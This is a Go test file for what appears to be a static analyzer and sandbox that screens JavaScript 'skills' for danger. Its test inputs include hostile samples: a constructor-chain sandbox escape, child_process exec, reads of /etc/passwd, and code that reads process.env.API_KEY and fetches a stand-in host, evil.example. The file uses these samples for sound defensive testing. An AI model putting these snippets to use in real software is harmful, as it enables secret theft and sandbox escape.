package skills

import (
	"strings"
	"testing"
	"time"
)

func newTestAnalyzer(t *testing.T) *Analyzer {
	t.Helper()
	return NewAnalyzer(2*time.Second, 0, nil)
}

func hasVulnerability(vulns []Vulnerability, typ, severity string) bool {
	for _, v := range vulns {
		if v.Type == typ && v.Severity == severity {
			return true
		}
	}
	return false
}

func TestAnalyzeEvalIsCritical(t *testing.T) {
	res := newTestAnalyzer(t).Analyze("function run(c){return eval(c);}")
	if res.Safe {
		t.Fatal("eval skill reported safe")
	}
	if res.RiskScore != 1.0 {
		t.Fatalf("riskScore = %v, want 1.0", res.RiskScore)
	}
	if !hasVulnerability(res.Vulnerabilities, "dangerous_function", "critical") {
		t.Fatalf("missing critical dangerous_function, got %+v", res.Vulnerabilities)
	}
	if res.Reason != "Critical vulnerabilities found" {
		t.Fatalf("reason = %q", res.Reason)
	}
}

func TestAnalyzeConstructorEscape(t *testing.T) {
	res := newTestAnalyzer(t).Analyze(`const c = this.constructor.constructor('return process')();`)
	if res.Safe {
		t.Fatal("sandbox escape reported safe")
	}
	if !hasVulnerability(res.Vulnerabilities, "sandbox_escape", "critical") {
		t.Fatalf("missing sandbox_escape, got %+v", res.Vulnerabilities)
	}
}

func TestAnalyzeBenignSkill(t *testing.T) {
	res := newTestAnalyzer(t).Analyze("const arr = [1,2,3].map(n => n*2);")
	if !res.Safe {
		t.Fatalf("benign skill unsafe: %+v", res)
	}
	if res.RiskScore >= 0.5 {
		t.Fatalf("riskScore = %v, want < 0.5", res.RiskScore)
	}
	if len(res.Vulnerabilities) != 0 {
		t.Fatalf("unexpected vulnerabilities %+v", res.Vulnerabilities)
	}
}

func TestAnalyzeRiskScoreBounded(t *testing.T) {
	code := strings.Repeat("fetch('https://a.example/x');\n", 20)
	res := newTestAnalyzer(t).Analyze(code)
	if res.RiskScore < 0 || res.RiskScore > 1 {
		t.Fatalf("riskScore out of bounds: %v", res.RiskScore)
	}
	if res.Safe {
		t.Fatal("mass network skill reported safe")
	}
}

func TestStaticParseErrorNeverEscalates(t *testing.T) {
	res := StaticAnalyzer{}.Analyze("function { nope")
	if res.Severity != "info" {
		t.Fatalf("severity = %q, want info", res.Severity)
	}
	if len(res.Vulnerabilities) != 1 || res.Vulnerabilities[0].Type != "parse_error" {
		t.Fatalf("vulnerabilities = %+v", res.Vulnerabilities)
	}
	found := false
	for _, p := range res.Patterns {
		if p == "Parse error - code may be obfuscated" {
			found = true
		}
	}
	if !found {
		t.Fatalf("patterns = %v", res.Patterns)
	}
}

func TestStaticImportDeclarations(t *testing.T) {
	res := StaticAnalyzer{}.Analyze("import { exec } from 'child_process';\nexec('ls');")
	if res.Severity != "critical" {
		t.Fatalf("severity = %q, want critical", res.Severity)
	}
	if !hasVulnerability(res.Vulnerabilities, "dangerous_module", "critical") {
		t.Fatalf("vulnerabilities = %+v", res.Vulnerabilities)
	}

	res = StaticAnalyzer{}.Analyze("import fs from 'node:fs';\nfs.readFileSync('/etc/passwd');")
	if !hasVulnerability(res.Vulnerabilities, "filesystem_access", "high") {
		t.Fatalf("vulnerabilities = %+v", res.Vulnerabilities)
	}
}

func TestStaticDynamicImport(t *testing.T) {
	res := StaticAnalyzer{}.Analyze("const m = import('fs');")
	if !hasVulnerability(res.Vulnerabilities, "dynamic_import", "critical") {
		t.Fatalf("vulnerabilities = %+v", res.Vulnerabilities)
	}
}

func TestStaticFetchLiteralVsDynamic(t *testing.T) {
	res := StaticAnalyzer{}.Analyze("fetch('https://api.example.com/v1');")
	if !hasVulnerability(res.Vulnerabilities, "network_request", "medium") {
		t.Fatalf("literal fetch: %+v", res.Vulnerabilities)
	}

	res = StaticAnalyzer{}.Analyze("const u = buildURL(); fetch(u);")
	if !hasVulnerability(res.Vulnerabilities, "network_request", "high") {
		t.Fatalf("dynamic fetch: %+v", res.Vulnerabilities)
	}
}

func TestStaticObfuscatedLiterals(t *testing.T) {
	hexBlob := strings.Repeat("a1", 20)
	res := StaticAnalyzer{}.Analyze("const payload = '" + hexBlob + "';")
	if !hasVulnerability(res.Vulnerabilities, "obfuscation", "medium") {
		t.Fatalf("hex literal: %+v", res.Vulnerabilities)
	}
}

func TestSandboxRecordsNetworkAndEnv(t *testing.T) {
	sb := &Sandbox{Timeout: 2 * time.Second}
	res := sb.Run("const k = process.env.API_KEY; fetch('https://evil.example/x');")
	if res.Safe {
		t.Fatal("probing skill reported safe")
	}
	if len(res.NetworkAttempts) != 1 || res.NetworkAttempts[0] != "https://evil.example/x" {
		t.Fatalf("networkAttempts = %v", res.NetworkAttempts)
	}
	wantEnv := "Attempted to access process.env.API_KEY"
	found := false
	for _, b := range res.SuspiciousBehavior {
		if b == wantEnv {
			found = true
		}
	}
	if !found {
		t.Fatalf("suspiciousBehavior = %v", res.SuspiciousBehavior)
	}
}

func TestSandboxFSRequireTrap(t *testing.T) {
	sb := &Sandbox{Timeout: 2 * time.Second}
	res := sb.Run("const fs = require('fs'); try { fs.readFileSync('/etc/passwd'); } catch (e) {}")
	if res.Safe {
		t.Fatal("fs skill reported safe")
	}
	if len(res.FSAttempts) == 0 {
		t.Fatalf("fsAttempts empty: %+v", res)
	}
}

func TestSandboxTimeout(t *testing.T) {
	sb := &Sandbox{Timeout: 200 * time.Millisecond}
	res := sb.Run("while (true) {}")
	if res.Safe {
		t.Fatal("infinite loop reported safe")
	}
	found := false
	for _, b := range res.SuspiciousBehavior {
		if b == "Execution timed out - possible infinite loop" {
			found = true
		}
	}
	if !found {
		t.Fatalf("suspiciousBehavior = %v", res.SuspiciousBehavior)
	}
}

func TestSandboxAllocBoundConfigurable(t *testing.T) {
	code := "Buffer.alloc(2 * 1024 * 1024);"

	loose := &Sandbox{Timeout: 2 * time.Second, MaxAllocBytes: 4 << 20}
	if res := loose.Run(code); !res.Safe {
		t.Fatalf("alloc under the bound flagged: %+v", res)
	}

	tight := &Sandbox{Timeout: 2 * time.Second, MaxAllocBytes: 1 << 20}
	res := tight.Run(code)
	if res.Safe {
		t.Fatal("alloc past the bound reported safe")
	}
	found := false
	for _, b := range res.SuspiciousBehavior {
		if strings.Contains(b, "Buffer.alloc") {
			found = true
		}
	}
	if !found {
		t.Fatalf("suspiciousBehavior = %v", res.SuspiciousBehavior)
	}
}

func TestSandboxBenignRun(t *testing.T) {
	sb := &Sandbox{Timeout: 2 * time.Second}
	res := sb.Run("const s = JSON.stringify({a: Math.max(1, 2)}); console.log(s);")
	if !res.Safe {
		t.Fatalf("benign run unsafe: %+v", res)
	}
	if res.Error != "" {
		t.Fatalf("unexpected error %q", res.Error)
	}
}

func TestCodeHashStable(t *testing.T) {
	h1 := CodeHash("const a = 1;")
	h2 := CodeHash("const a = 1;")
	if h1 != h2 {
		t.Fatal("hash not stable")
	}
	if len(h1) != 64 || strings.ToLower(h1) != h1 {
		t.Fatalf("hash %q is not lowercase sha256 hex", h1)
	}
	if h1 == CodeHash("const a = 2;") {
		t.Fatal("distinct inputs collided")
	}
}
